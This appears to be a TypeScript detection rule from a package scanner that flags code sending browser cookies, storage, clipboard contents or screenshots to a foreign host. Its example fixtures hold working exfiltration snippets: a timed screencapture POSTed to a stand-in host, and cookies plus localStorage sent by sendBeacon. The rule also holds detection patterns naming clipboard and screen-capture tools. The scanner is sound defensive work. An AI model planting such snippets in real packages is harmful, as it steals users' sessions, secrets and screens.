import type { Action, Context, Flow, Inspection, Rule, Source } from '../lib/types.ts'
import { isStranger, placeInWords } from './behaviour/place.ts'
import type { Place } from './behaviour/place.ts'
import { findingsOf, isUnasked, leavesFor, sourcesInWords } from './behaviour/sightings.ts'
import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
import { opening, severityOf } from './finding.ts'
import { oncePer } from './remember.ts'

/** What lies in a browser or a clipboard, sent away. */
export const browserTheft: Rule = {
  meta: {
    id: 'browser-theft',
    title: 'Sends what the browser or clipboard holds away',
    severity: 'high',
    description:
      'On import, or hooked into what a page does, the code reads cookies, storage, typed input, wallet accounts or the ' +
      'clipboard and sends that to a host that is not its own. Analytics scripts send coarse numbers to the host their ' +
      'page configured.',
    references: [
      'lottie-player 2.0.5 (October 2024)',
      'Ledger connect-kit 1.1.5 (December 2023)',
      'GlassWorm (2025-26)',
    ],
    blindSpots: ['Values that a page passes to the package itself.'],
    examples: {
      flags: [
        {
          title: 'a function sends pictures of the screen to a host in the code',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "const { execSync } = require('child_process')\nexports.watch = () => setInterval(() => {\n  execSync('screencapture -x /tmp/a.png')\n  fetch('https://h.invalid/', { method: 'POST', body: require('fs').readFileSync('/tmp/a.png') })\n}, 6e4)\n",
          },
        },
        {
          title: 'an import sends the cookies away',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "navigator.sendBeacon('https://cdn-stats.invalid/c', document.cookie + JSON.stringify(localStorage))\n",
          },
        },
      ],
      passes: [
        {
          title: 'a function gives its caller a picture of the screen',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js':
              "exports.take = file => {\n  require('child_process').execFileSync('screencapture', ['-x', file])\n  return require('fs').readFileSync(file)\n}\n",
          },
        },
        {
          title: 'a library keeps its settings in storage',
          files: {
            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
            'i.js': "exports.theme = () => localStorage.getItem('theme')\n",
          },
        },
      ],
    },
  },
  check(inspection, context) {
    const sightings = inspection.flows.flatMap((flow): readonly Sighting[] =>
      sightingOf(flow, inspection, context),
    )
    return findingsOf(sightings, say)
  },
}

/** What a page shows, loads or goes to by itself. */
const shown = /^(?:picture|page|form-element)\./

/** Commands whose output is the clipboard. */
const clipboard = /\b(?:pbpaste|xclip\b.*-o|xsel\b.*-o|wl-paste|Get-Clipboard|termux-clipboard-get)\b/i

/** Commands that take a picture of the whole screen, without asking where. */
const screen =
  /\bscreencapture\b|\bimport\s(?:\S+\s+){0,6}-window\s+root\b|\bCopyFromScreen\b|\b(?:scrot|grim|maim|gnome-screenshot|spectacle|ksnip|nircmd(?:\.exe)?\s+savescreenshot)\b/

const photographing = oncePer(({ facts }: Inspection) =>
  facts.flatMap(fact => (fact.kind === 'starts' ? fact.commands.filter(text => screen.test(text)) : [])),
)

/** A picture of the screen: the file that such a command made, or what it printed. */
function isScreen({ kind, name }: Source, inspection: Inspection): boolean {
  if (kind === 'command-output') return screen.test(name)
  if (kind !== 'file' || !/\.(?:png|jpe?g|bmp|tiff?|webp)$/i.test(name)) return false
  return photographing(inspection).some(command => command.includes(name))
}

function sightingOf(flow: Flow, inspection: Inspection, context: Context): readonly Sighting[] {
  const { kind, name } = flow.source
  if (isScreen(flow.source, inspection)) return ofScreen(flow, inspection, context)
  const clip = kind === 'clipboard' || (kind === 'command-output' && clipboard.test(name))
  if (!clip && kind !== 'browser') return []
  // Whoever drives a browser goes on with its session in the headers of requests.
  const goesOn = flow.sink.role !== 'payload' && !shown.test(flow.sink.api)
  if (name === 'session cookies' && goesOn) return []
  const place = leavesFor(flow, inspection, context)
  if (place === undefined) return []
  const action = weigh(flow, place, clip)
  return action === undefined ? [] : [{ flow, place, action, severity: severityOf(action) }]
}

/** Whoever starts a command for it has the screen in mind; who opens a connection has not. */
function ofScreen(flow: Flow, inspection: Inspection, context: Context): readonly Sighting[] {
  const place = leavesFor(flow, inspection, context)
  if (place === undefined || !isStranger(place)) return []
  if (flow.phase === 'run' && !flow.byCall && place.kind !== 'capture') return []
  const action = isUnasked(flow) && flow.certain ? 'block' : 'ask'
  return [{ flow, place, action, severity: severityOf(action) }]
}

function weigh(flow: Flow, place: Place, clip: boolean): Action | undefined {
  if (!isStranger(place)) return undefined
  if (place.kind === 'capture' || (clip && isUnasked(flow))) return flow.certain ? 'block' : 'ask'
  if (isUnasked(flow) && !flow.byCall)
    return flow.certain && /cookie|prompt|ethereum|solana|credential|password|keys as/i.test(flow.source.name)
      ? 'block'
      : 'ask'
  // Analytics keep a number of their own in a cookie, which they look for among the others.
  if (flow.source.name === 'document.cookie' && !flow.certain) return undefined
  return /cookie|prompt|ethereum|solana|\bothers\b/i.test(flow.source.name) ? 'ask' : undefined
}

function say(group: SightingGroup): string {
  const [{ flow, place }] = group
  const copied = group.every(
    ({ flow: { source } }) =>
      source.kind === 'clipboard' || source.kind === 'command-output' || source.kind === 'file',
  )
  const harm = copied
    ? 'Whoever runs it hands over what they copy or see: passwords, addresses, keys. Do not use it.'
    : 'Whoever opens a page with it loses what they typed or signed. Do not ship it.'
  return (
    `${opening(flow)} reads ${sourcesInWords(group)} and sends that to ${place.host?.shown ?? 'a computed destination'}, ` +
    `${placeInWords(place)}. ${harm}`
  )
}
